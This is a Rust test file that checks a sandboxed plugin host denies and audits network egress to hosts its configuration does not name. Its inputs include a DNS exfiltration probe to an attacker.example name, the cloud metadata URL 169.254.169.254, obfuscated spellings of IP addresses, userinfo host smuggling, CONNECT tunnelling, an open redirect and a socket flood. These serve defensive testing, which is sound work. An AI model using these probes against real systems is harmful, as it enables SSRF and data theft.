//! Guests that reach for hosts that their configuration does not name, and configurations that name what no plugin may.

use wharf_security_tests::{Attack, Server};

/// What a guest sees that may reach `target` and tries `lines`, `{own}` in them standing for the port of `target`, and
/// `{other}` for the port of a server on 127.0.0.2. All of it is denied: the audit has `code`, and nobody was reached.
#[track_caller]
fn denied(name: &str, lines: &[&str], code: &str) -> Vec<String> {
    let (own, other) = (Server::start("127.0.0.1:0", "pong"), Server::start("127.0.0.2:0", "LEAKED"));
    let lines: Vec<String> = lines
        .iter()
        .map(|line| line.replace("{own}", &own.port().to_string()).replace("{other}", &other.port().to_string()))
        .collect();
    let attack = Attack::by("net-probe", name).with("target", own.address()).with("try", lines.join("\n")).start();
    let seen = attack.seen(lines.len());
    for (line, seen) in lines.iter().zip(&seen) {
        assert!(seen.starts_with("err "), "`{line}` gave `{seen}`");
    }
    attack.denied(code, &[]);
    assert_eq!((own.connections(), other.connections()), (0, 0), "somebody was reached");
    seen
}

/// The configuration is refused by the key's name, and the audit has it.
#[track_caller]
fn refused(name: &str, target: &str, code: &str) {
    let attack = Attack::by("net-probe", name).with("target", target);
    let message = attack.refused(400);
    assert!(message.contains("target: "), "{message}");
    attack.denied(code, &["target: "]);
}

#[test]
fn what_the_configuration_names_is_reached_and_nothing_is_in_the_audit() {
    let own = Server::start("127.0.0.1:0", "pong");
    let tries = format!("tcp:{0}\nnet:{0}", own.address());
    let attack = Attack::by("net-probe", "net-allowed").with("target", own.address()).with("try", tries).start();
    assert_eq!(attack.seen(2), ["ok pong", "ok pong"]);
    assert!(wharf_security_tests::audit::of(attack.worker(), attack.name(), "egress").is_empty());
}

#[test]
fn a_name_that_is_not_configured_is_not_looked_up() {
    denied("net-lookup", &["lookup:secret-in-a-name.attacker.example", "lookup:localhost"], "egress.name");
}

#[test]
fn a_name_that_is_not_configured_is_not_dialled() {
    denied("net-name", &["net:localhost:{own}", "net-tls:localhost:{own}"], "egress.name");
}

#[test]
fn an_address_that_is_not_configured_is_not_connected_to() {
    denied("net-address", &["tcp:127.0.0.2:{other}"], "egress.address");
}

#[test]
fn an_address_that_is_not_configured_is_not_dialled_however_it_is_written() {
    let spellings =
        ["net:127.0.0.2:{other}", "net:2130706434:{other}", "net:0177.0.0.2:{other}", "net:0x7f000002:{other}"];
    denied("net-spellings", &spellings, "egress.name");
}

#[test]
fn an_address_mapped_into_ipv6_is_not_connected_to() {
    // A socket of WASI takes no such address at all, so that there is nothing to deny.
    denied("net-mapped", &["net:[::ffff:127.0.0.2]:{other}", "tcp:[::ffff:127.0.0.2]:{other}"], "egress.name");
}

#[test]
fn another_port_of_a_configured_host_is_not_connected_to() {
    denied("net-port", &["tcp:127.0.0.1:{other}", "net:127.0.0.1:{other}"], "egress.port");
}

#[test]
fn a_datagram_to_an_address_that_is_not_configured_is_not_sent() {
    denied("net-udp", &["udp:127.0.0.2:{other}"], "egress.address");
}

#[test]
fn nothing_listens() {
    denied("net-listen", &["listen:0.0.0.0:0"], "egress.listen");
}

#[test]
fn no_socket_is_bound_to_an_address_of_the_guest_s_choice() {
    denied("net-bind", &["listen:127.0.0.1:8080", "udp-bind:127.0.0.1:5353"], "egress.bind");
}

#[test]
fn a_request_to_a_host_that_is_not_configured_is_not_sent() {
    denied("net-http", &["http:GET:http://127.0.0.2:{other}/", "http:GET:http://localhost:{own}/"], "egress.name");
}

#[test]
fn a_request_with_a_host_behind_a_user_is_not_sent() {
    denied("net-userinfo", &["http:GET:http://127.0.0.1:{own}@127.0.0.2:{other}/"], "egress");
}

#[test]
fn a_request_with_a_method_that_makes_tunnels_is_not_sent() {
    denied("net-connect", &["http:CONNECT:http://127.0.0.1:{own}/"], "egress.request");
}

#[test]
fn a_redirect_to_a_host_that_is_not_configured_is_neither_followed_nor_allowed() {
    let other = Server::start("127.0.0.2:0", "HTTP/1.1 200 OK\r\ncontent-length: 6\r\n\r\nLEAKED");
    let redirect = format!("HTTP/1.1 302 Found\r\nlocation: http://{}/\r\ncontent-length: 0\r\n\r\n", other.address());
    let own = Server::start("127.0.0.1:0", &redirect);
    let tries = format!("http:GET:http://{}/\nhttp:GET:http://{}/", own.address(), other.address());
    let target = format!("http://{}", own.address());
    let attack = Attack::by("net-probe", "net-redirect").with("target", target).with("try", tries).start();
    let seen = attack.seen(2);
    assert!(seen[0].starts_with("ok 302"), "{seen:?}");
    assert!(seen[1].starts_with("err "), "{seen:?}");
    attack.denied("egress.name", &["127.0.0.2"]);
    assert_eq!(other.connections(), 0);
}

#[test]
fn what_one_connector_may_reach_another_may_not() {
    let (own, theirs) = (Server::start("127.0.0.1:0", "pong"), Server::start("127.0.0.2:0", "pong"));
    let tries = format!("tcp:{}", theirs.address());
    let neighbour =
        Attack::by("net-probe", "net-theirs").with("target", theirs.address()).with("try", tries.clone()).start();
    assert_eq!(neighbour.seen(1), ["ok pong"]);
    let before = theirs.connections();
    neighbour.worker().rest().put_empty(&format!("/connectors/{}/stop", neighbour.name()));
    neighbour.worker().wait_for_state(neighbour.name(), "STOPPED");
    let before = before.max(theirs.connections());
    let spy = Attack::by("net-probe", "net-spy").with("target", own.address()).with("try", tries).start();
    assert!(spy.seen(1)[0].starts_with("err "));
    spy.denied("egress.address", &["127.0.0.2"]);
    assert_eq!(theirs.connections(), before, "it was reached");
}

#[test]
fn a_flood_of_sockets_ends_at_the_quota() {
    let own = Server::start("127.0.0.1:0", "pong");
    let attack = Attack::by("net-probe", "net-flood").with("target", own.address()).with("limits.sockets", "5");
    let attack = attack.with("try", format!("tcp-flood:1000:{0}\nnet-flood:1000:{0}", own.address())).start();
    let seen = attack.seen(2);
    assert!(seen.iter().all(|seen| seen.starts_with("err 5 then ")), "{seen:?}");
    attack.denied("egress.quota.sockets", &["5 sockets"]);
}

#[test]
fn a_metadata_address_is_refused_in_a_configuration() {
    refused("net-metadata", "http://169.254.169.254/latest/meta-data", "egress.range");
    refused("net-metadata-6", "[fd00:ec2::254]:80", "egress.range");
}

#[test]
fn an_unspecified_address_is_refused_in_a_configuration() {
    refused("net-unspecified", "0.0.0.0:8083", "egress.range");
}

#[test]
fn a_link_local_address_is_refused_in_a_configuration() {
    refused("net-link-local", "169.254.1.1:80", "egress.range");
}

#[test]
fn what_the_operator_denies_is_refused_in_a_configuration() {
    refused("net-denied-name", "db.denied.example:5432", "egress.ceiling");
    refused("net-denied-address", "127.0.0.66:80", "egress.ceiling");
}
